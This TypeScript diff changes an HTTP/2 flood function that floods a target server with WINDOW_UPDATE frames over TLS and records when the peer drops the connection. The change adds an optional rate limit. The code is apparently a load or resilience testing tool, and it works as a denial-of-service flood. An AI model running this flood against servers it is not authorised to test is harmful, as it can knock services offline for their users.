@@ -88,12 +88,14 @@ function connectTls(target: FloodTarget): tls.TLSSocket {
 
 /**
  * Opens one connection and sends WINDOW_UPDATE frames on stream 0 (increment
- * 1, so the window never overflows) as fast as the peer reads them, for
- * `durationMs` or until the peer closes the connection. It answers the
- * peer's SETTINGS (so the connection is well-formed) and nothing else.
+ * 1, so the window never overflows) as fast as the peer reads them (or at
+ * `bytesPerSecond`), for `durationMs` or until the peer closes the
+ * connection. It answers the peer's SETTINGS (so the connection is
+ * well-formed) and nothing else.
  *
  * @param target where to connect
  * @param durationMs how long to flood
+ * @param bytesPerSecond a rate to keep to (written every 10 ms); as fast as the peer reads when absent
  * @returns frames sent, and when and how the peer cut the connection
  *
  * @example
@@ -105,6 +107,7 @@ function connectTls(target: FloodTarget): tls.TLSSocket {
 export async function windowUpdateFlood(
   target: FloodTarget,
   durationMs: number,
+  bytesPerSecond?: number,
 ): Promise<WindowUpdateFloodResult> {
   const socket = connectTls(target);
   const result: WindowUpdateFloodResult = { frames: 0 };
@@ -148,14 +151,19 @@ export async function windowUpdateFlood(
   const increment = Buffer.alloc(4);
   increment.writeUInt32BE(1);
   const one = h2Frame(FRAME_WINDOW_UPDATE, 0, 0, increment);
-  const perWrite = 4096;
+  // 13 bytes a frame: as many per 10 ms as the rate allows, else 4096 per write.
+  const perWrite = bytesPerSecond === undefined
+    ? 4096
+    : Math.max(1, Math.round(bytesPerSecond / 100 / one.length));
   const burst = Buffer.concat(Array.from({ length: perWrite }, () => one));
   started = performance.now();
   const ends = started + durationMs;
   while (!closed && result.cutAfterMs === undefined && performance.now() < ends) {
     const more = socket.write(burst);
     result.frames += perWrite;
-    if (!more) {
+    if (bytesPerSecond !== undefined) {
+      await new Promise((resolve) => setTimeout(resolve, 10));
+    } else if (!more) {
       // Wait until the peer has read what is queued (or the flood's time is up).
       await new Promise<void>((resolve) => {
         const timer = setTimeout(resolve, Math.max(0, ends - performance.now()));
